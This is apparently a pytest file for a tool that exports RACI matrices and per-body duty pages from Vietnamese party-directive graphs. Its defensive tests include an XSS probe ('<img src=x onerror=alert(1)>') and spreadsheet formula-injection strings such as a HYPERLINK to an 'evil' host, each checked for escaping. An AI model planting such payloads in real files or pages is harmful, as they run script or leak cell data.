"""RACI matrix and per-body responsibilities: on the samples, on factory-made graphs, and round trips."""

from __future__ import annotations

import csv
import html
import io
import json
import re

import networkx as nx
import pytest
from click.testing import CliRunner

from chidao.cli import main
from chidao.graph import schema
from chidao.graph.export import maps
from chidao.graph.load import graph_from_store

LAI_CHAU_BTG = "body:lai-chau/ban-tuyen-giao-tinh-uy"


def run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


# --- factories: the builder's attribute shape ---------------------------------------------------------


def node(graph: nx.MultiDiGraph, node_id: str, label: str, **props) -> None:
    data = {k: None for k in schema.NODE_PROPERTIES[label]}
    data.update(id=node_id, **props)
    graph.add_node(node_id, label=label, **data)


def edge(graph: nx.MultiDiGraph, u: str, v: str, edge_type: str, **props) -> None:
    data = {k: None for k in schema.EDGE_PROPERTIES[edge_type]}
    data.update(props)
    key = schema.EdgeKey(u, v, edge_type, "|".join(str(props.get(k) or "") for k in ("role", "kind"))).key
    graph.add_edge(u, v, key=key, type=edge_type, **data)


def directive() -> nx.MultiDiGraph:
    """One document, two measures: A leads item 1 and answers for it, B cooperates, C executes item 10,
    D is only a Nơi nhận addressee, E is both addressed and assigned."""
    g = nx.MultiDiGraph()
    doc = "doc:lai-chau/9-ct-tu/2024"
    node(g, doc, schema.DOCUMENT, number="9-CT/TU", date="2024-05-01", scope="lai-chau", is_stub=False)
    node(g, "body:lai-chau/tinh-uy", schema.BODY, name="Tỉnh ủy", jurisdiction="Lai Châu", scope="lai-chau")
    for ch in "ABCDE":
        node(g, f"body:lai-chau/{ch.lower()}", schema.BODY, name=f"Ban {ch}", jurisdiction="Lai Châu",
             scope="lai-chau")
    for n, item in ((1, "1"), (2, "10"), (3, "2")):
        node(g, f"measure:lai-chau/9-ct-tu/2024#{n}", schema.MEASURE, document=doc, item=item, ordinal=n,
             text=f"{item}. Việc | số {item}\ncó xuống dòng", deadline="2024-06-30" if n == 1 else None)
        edge(g, doc, f"measure:lai-chau/9-ct-tu/2024#{n}", schema.CONTAINS, document=doc)
    prov = {"document": doc, "span_start": 1, "span_end": 2}
    edge(g, "body:lai-chau/tinh-uy", doc, schema.ISSUES, quote="TỈNH ỦY", **prov)
    edge(g, "body:lai-chau/a", "measure:lai-chau/9-ct-tu/2024#1", schema.RESPONSIBLE_FOR, role="execute",
         quote="Ban A thực hiện", **prov)
    edge(g, "body:lai-chau/b", "measure:lai-chau/9-ct-tu/2024#1", schema.RESPONSIBLE_FOR, role="cooperate",
         quote="phối hợp Ban B", **prov)
    edge(g, "body:lai-chau/c", "measure:lai-chau/9-ct-tu/2024#2", schema.RESPONSIBLE_FOR, role="execute",
         quote="Ban C", **prov)
    edge(g, "body:lai-chau/e", "measure:lai-chau/9-ct-tu/2024#3", schema.RESPONSIBLE_FOR, role="lead",
         quote="Ban E chủ trì", **prov)
    edge(g, "body:lai-chau/a", "body:lai-chau/tinh-uy", schema.ACCOUNTABLE_TO, quote="chịu trách nhiệm trước", **prov)
    edge(g, "body:lai-chau/a", "body:lai-chau/tinh-uy", schema.REPORTS_TO, cadence="monthly",
         quote="báo cáo hằng tháng", **prov)
    edge(g, doc, "body:lai-chau/d", schema.ADDRESSED_TO, kind="cc", purpose="để biết", quote="Ban D", **prov)
    edge(g, doc, "body:lai-chau/e", schema.ADDRESSED_TO, kind="to", quote="Ban E", **prov)
    return g


def test_raci_letters_on_a_factory_graph() -> None:
    table = maps.raci(directive())
    rows = {row["item"]: row for row in table.rows}
    assert [row["item"] for row in table.rows] == ["1", "10", "2"]  # document order (ordinal), not text order
    assert rows["1"]["body:lai-chau/a"] == "A"  # executes, and answers for it in this document
    assert rows["1"]["body:lai-chau/b"] == "C"
    assert rows["10"]["body:lai-chau/c"] == "R"
    assert rows["2"]["body:lai-chau/e"] == "A"  # leads; being an addressee does not weaken it
    assert {rows[i]["body:lai-chau/d"] for i in rows} == {"I"}  # Nơi nhận, để biết
    assert rows["1"]["body:lai-chau/e"] == "I"
    assert "body:lai-chau/tinh-uy" not in dict(table.columns)  # issues, is not assigned or addressed
    assert [name for _, name in table.columns] == [f"Ban {c} (Lai Châu)" for c in "ABCDE"]
    assert rows["1"]["deadline"] == "2024-06-30" and rows["1"]["document"] == "9-CT/TU"


def test_per_body_on_a_factory_graph() -> None:
    info = maps.responsibilities(directive(), "body:lai-chau/a")
    assert info["duties"] == [{
        "document": "9-CT/TU", "document_id": "doc:lai-chau/9-ct-tu/2024", "date": "2024-05-01",
        "issued_by": ["Tỉnh ủy"], "item": "1", "role": "execute", "raci": "A", "deadline": "2024-06-30",
        "measure": "1. Việc | số 1\ncó xuống dòng", "measure_id": "measure:lai-chau/9-ct-tu/2024#1",
        "quote": "Ban A thực hiện"}]
    assert [(x["kind"], x["to"], x["cadence"]) for x in info["lines"]] == [
        ("answers to", "Tỉnh ủy", None), ("reports to", "Tỉnh ủy", "monthly")]
    md = maps.render_responsibilities(info, "md")
    flat = " ".join(md.split())
    assert "- báo cáo / reports to **Tỉnh ủy** (monthly) — 9-CT/TU: “báo cáo hằng tháng”" in flat
    assert "hạn / deadline 2024-06-30" in flat and "issued by Tỉnh ủy" in flat
    assert max(len(line) for line in md.splitlines()) <= maps.MD_WIDTH
    c = maps.responsibilities(directive(), "body:lai-chau/c")
    assert [d["item"] for d in c["duties"]] == ["10"]


# --- the samples ----------------------------------------------------------------------------------------


@pytest.fixture()
def graph(store):
    return graph_from_store(store)


def test_raci_has_a_row_per_measure_and_a_letter_per_assignment(graph, sample_records) -> None:
    table = maps.raci(graph)
    assert len(table.rows) == sum(len(r["measures"]) for r in sample_records)
    assert len({row["measure_id"] for row in table.rows}) == len(table.rows)
    by_measure = {row["measure_id"]: row for row in table.rows}
    assignments = 0
    for record in sample_records:
        for m in record["measures"]:
            for a in m["assignments"]:
                assignments += 1
                letter = by_measure[m["id"]][a["body"]["id"]]
                assert letter == {"lead": "A", "cooperate": "C", "execute": letter if letter in "RA" else "R"}[a["role"]]
    assert assignments > 40


def test_raci_informed_and_accountable(graph) -> None:
    table = maps.raci(graph)
    row = next(r for r in table.rows if r["document"] == "761-CV/TU" and r["item"] == "2")
    assert row["post:unknown~unknown-761-cv-tu/bi-thu-cac-huyen-uy-thanh-uy"] == "A"  # answers to the BTV
    lai_chau = next(r for r in table.rows if r["document"] == "629-CV/TU" and r["item"] == "4")
    assert lai_chau[LAI_CHAU_BTG] == "R"
    assert lai_chau["group:lai-chau/cac-huyen-uy-thanh-uy-dang-uy-truc-thuoc"] == "I"  # Kính gửi


def read_md_table(text: str) -> list[list[str]]:
    rows = []
    for line in text.splitlines():
        if not line.startswith("| "):
            continue
        cells = re.split(r"(?<!\\) \| ", line[2:-2])
        rows.append([html.unescape(c.replace("\\|", "|").replace("\\\\", "\\")) for c in cells])
    return rows


def one_line(text: str) -> str:
    return re.sub(r"\s*\n\s*", " ", text)


def test_raci_csv_round_trip(sample_store, graph) -> None:
    table = maps.raci(graph)
    header, body = maps.raci_rows(table)
    rows = list(csv.reader(io.StringIO(run("export", "raci", "--db", sample_store, "--format", "csv"))))
    assert rows[0][:5] == ["Văn bản / Document", "Ngày / Date", "Mục / Item", "Nhiệm vụ / Measure",
                           "Thời hạn / Deadline"]
    expected = [[maps.inert(v) for v in row] for row in (header, maps.raci_ids(table), *body)]
    assert rows == expected  # names, then ids, then the measures (formula-like cells made inert)
    assert rows[1][0] == "Mã / Id" and rows[1][5:] == [actor for actor, _ in table.columns]


def test_raci_column_names_are_distinct(graph) -> None:
    """The issue's 73 columns had four names twice: province, level or document now tell them apart."""
    table = maps.raci(graph)
    names = [name for _, name in table.columns]
    assert len(names) == len(set(names)) > 60
    assert "Ban Tuyên giáo Tỉnh ủy (tỉnh chưa rõ · 761-CV/TU)" in names
    assert "Ban Tuyên giáo Tỉnh ủy (Lai Châu)" in names and "Ban Tuyên giáo Tỉnh ủy (Đồng Nai)" in names
    assert not any(n.startswith("doc:") or "doc:sha" in n for n in names)


def test_same_name_same_province_gets_level_then_kind_then_number() -> None:
    g = directive()
    node(g, "body:lai-chau/x", schema.BODY, name="Ban X", jurisdiction="Lai Châu", level="province")
    node(g, "body:lai-chau/x2", schema.BODY, name="Ban X", jurisdiction="Lai Châu", level="district")
    node(g, "post:lai-chau/y", schema.POST, name="Ban Y", jurisdiction="Lai Châu")
    node(g, "body:lai-chau/y", schema.BODY, name="Ban Y", jurisdiction="Lai Châu")
    node(g, "body:lai-chau/z1", schema.BODY, name="Ban Z", jurisdiction="Lai Châu")
    node(g, "body:lai-chau/z2", schema.BODY, name="Ban Z", jurisdiction="Lai Châu")
    for actor in ("body:lai-chau/x", "body:lai-chau/x2", "post:lai-chau/y", "body:lai-chau/y", "body:lai-chau/z1",
                  "body:lai-chau/z2"):
        edge(g, actor, "measure:lai-chau/9-ct-tu/2024#1", schema.RESPONSIBLE_FOR, role="execute",
             document="doc:lai-chau/9-ct-tu/2024")
    names = dict(maps.raci(g).columns)
    assert names["body:lai-chau/x"] == "Ban X (Lai Châu) [cấp tỉnh]"
    assert names["body:lai-chau/x2"] == "Ban X (Lai Châu) [cấp huyện]"
    assert names["post:lai-chau/y"] == "Ban Y (Lai Châu) [chức danh]"
    assert names["body:lai-chau/y"] == "Ban Y (Lai Châu) [cơ quan]"
    assert (names["body:lai-chau/z1"], names["body:lai-chau/z2"]) == ("Ban Z (Lai Châu)", "Ban Z (Lai Châu) #2")


def test_raci_md_is_per_document_and_wraps(sample_store, graph) -> None:
    table = maps.raci(graph)
    md = run("export", "raci", "--db", sample_store, "--format", "md")
    lines = md.splitlines()
    prose = [line for line in lines if not line.startswith("|") and " " in line.strip()]  # not a lone long id
    assert max(len(line) for line in prose) <= maps.MD_WIDTH
    assert max(len(line) for line in lines) < 200  # the issue's file had a line of 3,671 characters
    sections = md.split("\n## ")[1:]
    documents = list(dict.fromkeys(row["document"] for row in table.rows))
    assert [s.split(" · ")[0].split("\n")[0] for s in sections] == documents
    for section in sections:
        document = section.split(" · ")[0].split("\n")[0]
        rows = [row for row in table.rows if row["document"] == document]
        grid = read_md_table(section)
        block = section.split("Cột / Columns:\n\n", 1)[1].split("\n\nNhiệm vụ", 1)[0]
        key = [re.search(r"`([^`]+)`$", " ".join(e.split())).group(1) for e in re.split(r"\n(?=\d+\. )", block)]
        actors = [actor for actor, _ in table.columns if any(r.get(actor) for r in rows)]
        assert key == actors, document
        assert len(grid) == len(rows) + 1
        for row, cells in zip(rows, grid[1:], strict=True):
            assert cells[2:] == [row.get(a, "") for a in actors]
    assert "**R** thực hiện" in md and "- **mục 4** — 4. Ban Tuyên giáo Tỉnh ủy chỉ đạo" in md
    short = run("export", "raci", "--db", sample_store, "--format", "md", "--width", "40")
    measures = [line for line in short.splitlines() if line.startswith("- **mục")]
    assert measures and all(len(line.split(" — ", 1)[1]) <= 40 for line in measures)


def test_raci_md_escapes_pipes_and_markup() -> None:
    g = directive()
    g.nodes["body:lai-chau/a"]["name"] = "Ban <script>x</script> | A"
    out = io.StringIO()
    maps.write_raci_md(maps.raci(g), out)
    assert "<script>" not in out.getvalue() and "&lt;script&gt;" in out.getvalue()
    assert "1. Ban &lt;script&gt;x&lt;/script&gt; | A (Lai Châu) — `body:lai-chau/a`" in out.getvalue()
    table = read_md_table(out.getvalue())
    assert [r[0] for r in table[1:]] == ["1", "10", "2"]
    assert "- **mục 1** — 1. Việc | số 1 có xuống dòng" in out.getvalue()
    assert len({len(r) for r in table}) == 1


def test_raci_xlsx_round_trip(sample_store, graph, tmp_path) -> None:
    from openpyxl import load_workbook

    table = maps.raci(graph)
    header, body = maps.raci_rows(table)
    path = tmp_path / "raci.xlsx"
    result = CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "-o", str(path)])  # format from suffix
    assert result.exit_code == 0, result.output
    wb = load_workbook(path)
    ws = wb["RACI"]
    read = [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]
    assert read == [[maps.inert(v) for v in row] for row in (header, maps.raci_ids(table), *body)]
    last = ws.cell(1, len(header)).column_letter
    assert ws.freeze_panes == "F3" and ws.auto_filter.ref == f"A2:{last}{len(body) + 2}"
    assert ws["D3"].alignment.wrap_text and ws["A1"].font.bold
    assert ws.column_dimensions["D"].width >= 60 and ws.column_dimensions["F"].width < 8
    assert ws["F1"].alignment.text_rotation == 90 and ws["F2"].alignment.text_rotation == 90
    assert [r[0] for r in wb["Legend"].iter_rows(min_row=2, values_only=True)] == ["R", "A", "C", "I"]
    bodies = list(wb["Bodies"].iter_rows(values_only=True))
    assert bodies[0] == ("Cột / Column", "Tên / Name", "Mã / Id")
    for letter, name, actor in bodies[1:]:  # keyed by column letter: the letter finds the column, whatever the name
        assert ws[f"{letter}1"].value == name and ws[f"{letter}2"].value == actor
    assert LAI_CHAU_BTG in {r[2] for r in bodies[1:]} and len({r[0] for r in bodies[1:]}) == len(table.columns)


def test_csv_for_excel_starts_with_a_bom(sample_store, tmp_path) -> None:
    path = tmp_path / "raci.csv"
    CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "-o", str(path)])
    assert path.read_bytes().startswith(b"\xef\xbb\xbfV\xc4\x83n b\xe1\xba\xa3n")  # BOM, then "Văn bản"
    CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "-o", str(path), "--no-excel"])
    assert path.read_bytes().startswith("Văn bản".encode())
    piped = CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "--format", "csv"]).stdout_bytes
    assert piped.startswith("Văn bản".encode())  # standard output: none unless asked
    asked = CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "--format", "csv", "--excel"])
    assert asked.stdout_bytes.startswith(b"\xef\xbb\xbf")
    one = tmp_path / "btg.csv"
    CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--body", LAI_CHAU_BTG,
                              "--format", "csv", "-o", str(one)])
    assert one.read_bytes().startswith(b"\xef\xbb\xbfbody,")
    md = tmp_path / "btg.md"
    CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--body", LAI_CHAU_BTG, "-o", str(md)])
    assert md.read_bytes().startswith(b"# Ban")  # only CSV gets one


def test_raci_xlsx_needs_a_file(sample_store) -> None:
    result = CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "--format", "xlsx"])
    assert result.exit_code == 1 and "needs -o" in result.stderr


@pytest.mark.parametrize("ref", [LAI_CHAU_BTG, "Ban Tuyên giáo Tỉnh ủy Lai Châu", "ban tuyen giao tinh uy lai chau"])
def test_per_body_markdown_for_lai_chau_tuyen_giao(sample_store, ref) -> None:
    md = run("export", "responsibilities", "--db", sample_store, "--body", ref)
    assert md.startswith("# Ban Tuyên giáo Tỉnh ủy — Lai Châu\n")
    assert f"`{LAI_CHAU_BTG}`" in md and md.count("\n# ") == 0  # just that one body
    assert "- **thực hiện / execute** (R) — 629-CV/TU, 2021-11-03, mục 4" in md
    assert "4. Ban Tuyên giáo Tỉnh ủy chỉ đạo các cơ quan truyền thông, báo chí làm tốt công tác thông tin" in md
    assert "trích / quote: “Ban Tuyên giáo Tỉnh ủy chỉ đạo" in md


def test_per_body_by_name_lists_every_province(sample_store) -> None:
    result = CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--body",
                                       "Ban Tuyên giáo Tỉnh ủy", "--format", "json"])
    infos = json.loads(result.stdout)
    assert isinstance(infos, list) and len(infos) >= 3 and LAI_CHAU_BTG in {i["id"] for i in infos}
    assert "add the province" in result.stderr
    rows = list(csv.reader(io.StringIO(run("export", "responsibilities", "--db", sample_store, "--body",
                                           "Ban Tuyên giáo Tỉnh ủy", "--format", "csv"))))
    assert rows[0] == maps.CSV_FIELDS and sum(r == maps.CSV_FIELDS for r in rows) == 1
    assert {r[1] for r in rows[1:]} == {i["id"] for i in infos}


def test_per_body_lines_and_formats(sample_store) -> None:
    body = "body:unknown~unknown-761-cv-tu/ban-tuyen-giao-tinh-uy"
    info = json.loads(run("export", "responsibilities", "--db", sample_store, "--body", body, "--format", "json"))
    assert info["duties"][0]["role"] == "lead" and info["duties"][0]["raci"] == "A"
    assert [(x["kind"], x["to"], x["cadence"], x["document"], x["quote"]) for x in info["lines"]] == [
        ("reports to", "Ban Thường vụ Tỉnh ủy", "regular", "761-CV/TU", "báo cáo Ban Thường vụ Tỉnh ủy")]
    page = run("export", "responsibilities", "--db", sample_store, "--body", body, "--format", "html")
    assert page.startswith("<!DOCTYPE html>") and "Ban Thường vụ Tỉnh ủy" in page and "<script" not in page
    rows = list(csv.DictReader(io.StringIO(run("export", "responsibilities", "--db", sample_store, "--body", body,
                                               "--format", "csv"))))
    assert [(r["body"], r["document"], r["item"], r["role"], r["raci"]) for r in rows] == [
        ("Ban Tuyên giáo Tỉnh ủy", "761-CV/TU", "6", "lead", "A")]
    assert rows[0]["measure"] == info["duties"][0]["measure"] and rows[0]["quote"] == info["duties"][0]["quote"]


def test_per_body_escapes_document_text() -> None:
    g = directive()
    g.nodes["measure:lai-chau/9-ct-tu/2024#1"]["text"] = "<img src=x onerror=alert(1)>"
    info = maps.responsibilities(g, "body:lai-chau/a")
    page = maps.render_responsibilities(info, "html")
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<img" not in maps.render_responsibilities(info, "md")


def test_unknown_body_is_a_clear_error(sample_store) -> None:
    result = CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--body", "Bộ Không Có"])
    assert result.exit_code == 1 and "no body or post matches" in result.stderr


def test_all_bodies_one_file_each(sample_store, graph, tmp_path) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--all", "-o", str(out)])
    assert result.exit_code == 0, result.output
    files = sorted(p.name for p in out.glob("*.md") if p.name != "index.md")
    assert "lai-chau--ban-tuyen-giao-tinh-uy.md" in files
    assert "tinh-chua-ro-761-cv-tu--ban-tuyen-giao-tinh-uy.md" in files  # the document that named no province
    assert len(files) == len(maps.responsible_actors(graph)) > 40  # every body or post with a measure
    assert all(name.isascii() and len(name) <= 103 and "unknown" not in name for name in files)
    assert (out / "lai-chau--ban-tuyen-giao-tinh-uy.md").read_text(encoding="utf-8").startswith(
        "# Ban Tuyên giáo Tỉnh ủy — Lai Châu")
    index = (out / "index.md").read_text(encoding="utf-8")
    links = re.findall(r"\]\(([^)]+)\)", index)
    assert sorted(links) == files  # the index links every file, and nothing else
    assert index.index("## Đồng Nai") < index.index("## Lai Châu") < index.index("## Tỉnh chưa rõ")
    CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--all", "--format", "json",
                              "-o", str(out)])
    assert all(json.loads(p.read_text(encoding="utf-8"))["duties"] for p in out.glob("*.json"))
    site = tmp_path / "site"
    CliRunner().invoke(main, ["export", "responsibilities", "--db", sample_store, "--all", "--format", "html",
                              "-o", str(site)])
    page = (site / "index.html").read_text(encoding="utf-8")
    assert sorted(re.findall(r'href="([^"]+)"', page)) == sorted(p.name for p in site.glob("*.html")
                                                                  if p.name != "index.html")


def test_file_names_stay_unique() -> None:
    g = directive()
    node(g, "post:lai-chau/a", schema.POST, name="Ban A", jurisdiction="Lai Châu")
    node(g, "group:lai-chau/a", schema.BODY, name="Ban A", jurisdiction="Lai Châu")
    names = maps.file_names(g, ["body:lai-chau/a", "post:lai-chau/a", "group:lai-chau/a"])
    assert names == {"body:lai-chau/a": "lai-chau--ban-a", "group:lai-chau/a": "lai-chau--ban-a--2",
                     "post:lai-chau/a": "lai-chau--ban-a--chuc-danh"}


def test_safe_names_are_short_unique_ascii() -> None:
    long_a, long_b = "body:lai-chau/" + "a" * 300, "body:lai-chau/" + "a" * 299 + "b"
    assert maps.safe_name("body:unknown~x/ban-ă") == "body_unknown_x_ban"
    assert maps.safe_name(long_a) != maps.safe_name(long_b)
    assert len(maps.safe_name(long_a)) <= 100 and maps.safe_name(long_a).isascii()


def test_docs_examples_match_the_output(sample_store) -> None:
    """docs/html-and-maps.md shows real output: its per-body example and RACI rows are what the code gives."""
    from pathlib import Path

    page = (Path(__file__).resolve().parents[2] / "docs" / "html-and-maps.md").read_text(encoding="utf-8")
    example = page.split("````markdown\n", 1)[1].split("````", 1)[0]
    md = run("export", "responsibilities", "--db", sample_store, "--body", "Ban Tuyên giáo Tỉnh ủy Lai Châu")
    assert example.strip() == md.strip()  # the whole example, quotes included
    raci_md = run("export", "raci", "--db", sample_store, "--document", "629-CV/TU", "--format", "md",
                  "--width", "70")
    shown = page.split("## RACI matrix", 1)[1].split("```markdown\n", 1)[1].split("```", 1)[0]
    assert shown.strip() == "## " + raci_md.split("\n## ", 1)[1].strip()  # the whole 629-CV/TU section
    tail = page.split("a body with a reporting line", 1)[1].split("```markdown\n", 1)[1].split("```", 1)[0]
    other = run("export", "responsibilities", "--db", sample_store, "--body",
                "body:unknown~unknown-761-cv-tu/ban-tuyen-giao-tinh-uy")
    assert tail.strip() in other


def test_stdout_is_utf8_even_on_a_narrow_console(sample_store) -> None:
    """A Windows console's code page must not break Vietnamese output (bytes are written, not text)."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"}
    for args in (["responsibilities", "--body", "Ban Tuyên giáo Tỉnh ủy Lai Châu"], ["raci", "--format", "md"],
                 ["html", "--document", "629-CV/TU", "-o", "-"]):
        out = subprocess.run([sys.executable, "-c", "from chidao.cli import main; main()", "export", *args,
                              "--db", sample_store], capture_output=True, env=env, timeout=120, check=True).stdout
        assert "Tuyên giáo".encode() in out and b"\r\n" not in out


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://x"&A3, "y")', '\'=HYPERLINK("http://x"&A3, "y")'),
    ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("Ban Tuyên giáo", "Ban Tuyên giáo"), (3, 3), (None, None),
])
def test_cells_that_could_start_a_formula_are_inert(value, cell) -> None:
    assert maps.inert(value) == cell


def test_xlsx_holds_no_formula(sample_store, graph, tmp_path, monkeypatch) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    table = maps.raci(graph)
    table.rows[0]["measure"] = '=HYPERLINK("http://evil"&A3, "x")'
    out = tmp_path / "r.xlsx"
    maps.write_raci_xlsx(table, out)
    values = [c.value for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)


def test_maps_of_one_province_or_period(sample_store, tmp_path) -> None:
    rows = list(csv.reader(io.StringIO(run("export", "raci", "--db", sample_store, "--province", "lai chau",
                                           "--format", "csv"))))
    assert {r[0] for r in rows[2:]} == {"629-CV/TU"}
    assert all(actor.startswith(("body:lai-chau/", "group:lai-chau/", "post:lai-chau/")) for actor in rows[1][5:])
    july = list(csv.reader(io.StringIO(run("export", "raci", "--db", sample_store, "--since", "2021-07",
                                           "--until", "2021-07-31", "--format", "csv"))))
    assert {r[1] for r in july[2:]} == {"2021-07-22"}
    out = tmp_path / "dong-nai"
    run("export", "responsibilities", "--db", sample_store, "--all", "--province", "Đồng Nai", "-o", str(out))
    assert {p.name.split("--")[0] for p in out.glob("*.md") if p.name != "index.md"} == {"dong-nai"}
    bad = CliRunner().invoke(main, ["export", "raci", "--db", sample_store, "--province", "Atlantis"])
    assert bad.exit_code == 1 and bad.stderr == "Error: 'Atlantis' is not a province\n"
